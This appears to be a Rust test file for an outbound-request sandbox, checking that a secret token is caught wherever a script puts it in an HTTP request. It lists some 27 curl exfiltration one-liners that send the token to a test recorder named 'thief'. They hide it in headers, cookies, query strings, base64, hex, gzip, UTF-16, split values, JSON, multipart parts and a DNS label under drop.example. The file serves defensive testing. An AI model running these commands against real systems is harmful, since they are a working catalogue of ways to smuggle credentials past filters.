//! One credential at every place of a request, and in every form a shell can
//! give it.

use outgate_harness::audit::{records, text};
use outgate_harness::{Identity, Lab, lab_tests};

use crate::{Credential, Recorder, assert_contained, assert_told, bash, confined, thief};

/// What a thief's script does with `$T`.
struct Way {
    name: &'static str,
    script: &'static str,
}

const WAYS: &[Way] = &[
    Way {
        name: "path",
        script: "curl -sS \"$URL/x/$T/y\"",
    },
    Way {
        name: "query",
        script: "curl -sS \"$URL/x?a=1&q=$T\"",
    },
    Way {
        name: "query name",
        script: "curl -sS \"$URL/x?$T=1\"",
    },
    Way {
        name: "percent",
        script: "curl -sS \"$URL/x?q=%67hp${T:3}\"",
    },
    Way {
        name: "percent twice",
        script: "curl -sS \"$URL/x?q=%2567hp%255F${T:4}\"",
    },
    Way {
        name: "field",
        script: "curl -sS -H \"X-Y: $T\" $URL/",
    },
    Way {
        name: "user agent",
        script: "curl -sS -A \"$T\" $URL/",
    },
    Way {
        name: "cookie",
        script: "curl -sS -b \"s=$T\" $URL/",
    },
    Way {
        name: "basic",
        script: "curl -sS -u \"user:$T\" $URL/",
    },
    Way {
        name: "bearer",
        script: "curl -sS -H \"Authorization: Bearer $T\" $URL/",
    },
    Way {
        name: "field with a byte over 127",
        script: "curl -sS -H $'X-Y: \\xe9 '\"$T\" $URL/",
    },
    Way {
        name: "base64 in a field",
        script: "curl -sS -H \"X-Y: $(printf %s \"$T\" | base64 -w0)\" $URL/",
    },
    Way {
        name: "form",
        script: "curl -sS -d \"a=b&t=$T\" $URL/",
    },
    Way {
        name: "content with bytes of no text",
        script: "printf '\\xff\\xfe\\x00%s\\xff' \"$T\" | curl -sS --data-binary @- $URL/",
    },
    Way {
        name: "chunked",
        script: "printf %s \"$T\" | curl -sS -H 'Transfer-Encoding: chunked' --data-binary @- $URL/",
    },
    Way {
        name: "multipart",
        script: "printf %s \"$T\" > t; curl -sS -F 'a=1' -F 'f=@t' $URL/",
    },
    Way {
        name: "base64",
        script: "printf 'x%s' \"$T\" | base64 -w0 | curl -sS --data-binary @- $URL/",
    },
    Way {
        name: "base64 in lines",
        script: "printf 'some text before %s' \"$T\" | base64 -w20 | curl -sS --data-binary @- $URL/",
    },
    Way {
        name: "hex",
        script: "printf %s \"$T\" | od -An -tx1 -v | tr -d ' \\n' | curl -sS --data-binary @- $URL/",
    },
    Way {
        name: "hex with colons",
        script: "printf %s \"$T\" | od -An -tx1 -v | tr -d '\\n' | tr ' ' ':' | curl -sS --data-binary @- $URL/",
    },
    Way {
        name: "gzip that says so",
        script: "printf %s \"$T\" | gzip | curl -sS -H 'Content-Encoding: gzip' --data-binary @- $URL/",
    },
    Way {
        name: "gzip that says nothing",
        script: "printf %s \"$T\" | gzip | curl -sS --data-binary @- $URL/",
    },
    Way {
        name: "a second gzip member",
        script: "(printf a | gzip; printf %s \"$T\" | gzip) | curl -sS -H 'Content-Encoding: gzip' --data-binary @- $URL/",
    },
    Way {
        name: "gzip in base64",
        script: "printf %s \"$T\" | gzip | base64 -w0 | curl -sS --data-binary @- $URL/",
    },
    Way {
        name: "json",
        script: "printf '{\"a\":\"\\\\u0067hp_%s\"}' \"${T:4}\" | curl -sS -H 'Content-Type: application/json' --data-binary @- $URL/",
    },
    Way {
        name: "UTF-16",
        script: "printf %s \"$T\" | iconv -t UTF-16LE | curl -sS --data-binary @- $URL/",
    },
    Way {
        name: "over two values",
        script: "curl -sS \"$URL/x?a=${T:0:20}&b=${T:20}\"",
    },
];

fn attempts(lab: &Lab, identity: Identity, thief: &Recorder) {
    for way in WAYS {
        let place = format!("{} {identity:?}", way.name);
        let credential = Credential::new();
        let script = |text: &str| bash(&format!("T='{text}'; {}", way.script));

        let outcome = confined(lab, identity).run(&script(credential.text()));
        let sent = thief.take();
        assert_contained(&outcome, &sent, &credential, &place);
        assert_eq!(sent, b"", "{place}: nothing arrives: {outcome}");
        assert_told(&outcome, &place);
        assert!(
            outcome.stdout.contains("outgate denied"),
            "{place}: {outcome}"
        );

        // The same with something that is none: only its beginning.
        let none = &credential.text()[..12];
        let outcome = confined(lab, identity).run(&script(none));
        assert_eq!(outcome.stdout, "arrived\n", "{place}: {outcome}");
        assert!(!outcome.stderr.contains("outgate"), "{place}: {outcome}");
        assert_ne!(thief.take(), b"", "{place}");
    }
}

lab_tests! {
    fn credentials_are_found_wherever_they_stand_in_a_request(lab) {
        let thief = thief();
        for identity in Identity::all() {
            attempts(lab, identity, &thief);
        }
    }

    fn a_denial_says_where_in_the_content_it_stands(lab) {
        let thief = thief();
        let folder = lab.folder("records", Identity::Own);
        let json = "curl -sS -H 'Content-Type: application/json'";
        for (number, (script, inside)) in [
            (
                format!("printf '{{\"messages\":[{{\"role\":\"user\",\"content\":\"it is %s\"}}]}}' \"$T\" | {json} --data-binary @- $URL/"),
                "$.messages[0].content",
            ),
            (
                format!("printf '{{\"a\":\"b\",\"c d\":[1,\"key:\\\\n%s\"]}}' \"$T\" | {json} --data-binary @- $URL/"),
                "$['c d'][1]",
            ),
            (
                format!("printf '{{\"a\":{{\"%s\":1}}}}' \"$T\" | {json} --data-binary @- $URL/"),
                "a name in $.a",
            ),
            (
                format!("printf '{{\"%s\":{{\"b\":\"%s\"}}}}' \"x\" \"$T\" | {json} -H 'Transfer-Encoding: chunked' --data-binary @- $URL/"),
                "$.x.b",
            ),
            (
                "printf %s \"$T\" > id.txt; curl -sS -F 'a=1' -F 'key=@id.txt' $URL/".to_owned(),
                "part `key`, file `id.txt`",
            ),
            (
                "curl -sS -F 'a=1' -F \"b=$T\" $URL/".to_owned(),
                "part `b`",
            ),
        ].into_iter().enumerate() {
            let file = folder.join(format!("places-{number}.jsonl"));
            let credential = Credential::new();
            let script = format!("T='{}'; {script}", credential.text());
            let sandbox = confined(lab, Identity::Own).option("--audit", &file.to_string_lossy());
            let outcome = sandbox.run(&bash(&script));
            let sent = thief.take();
            assert_contained(&outcome, &sent, &credential, inside);
            assert_eq!(sent, b"", "{inside}: {outcome}");
            assert_told(&outcome, inside);
            let told = format!(" in the content at {inside} (byte ");
            for text in [&outcome.stdout, &outcome.stderr] {
                let lines = text.lines().filter(|line| line.contains(&told));
                assert_eq!(lines.count(), 1, "{told}: {outcome}");
            }
            let records = records(&file);
            let found = records.iter().rev().find(|record| text(record, "kind") == "finding");
            let found = found.expect("a record");
            assert_eq!(found["finding"]["inside"], inside, "{found:?}");
            assert!(text(found, "detail").contains(&told), "{found:?}");
            let all = std::fs::read_to_string(&file).expect("the record");
            assert!(credential.pieces().all(|piece| !all.contains(piece)), "{all}");
        }
    }

    fn names_that_hold_a_credential_are_not_asked_for(lab) {
        let credential = Credential::new();
        let names = outgate_harness::names::Names::start(vec![std::net::Ipv4Addr::LOCALHOST]);
        let script = format!("curl -sS --max-time 5 http://{}.drop.example:8099/", credential.text());
        let sandbox = confined(lab, Identity::Own).allow("http://*.drop.example:8099");
        let outcome = sandbox.run(&bash(&script));
        assert_ne!(outcome.code, Some(0), "{outcome}");
        assert_told(&outcome, "label");
        assert!(names.asked().is_empty(), "{:?}", names.asked());
    }
}
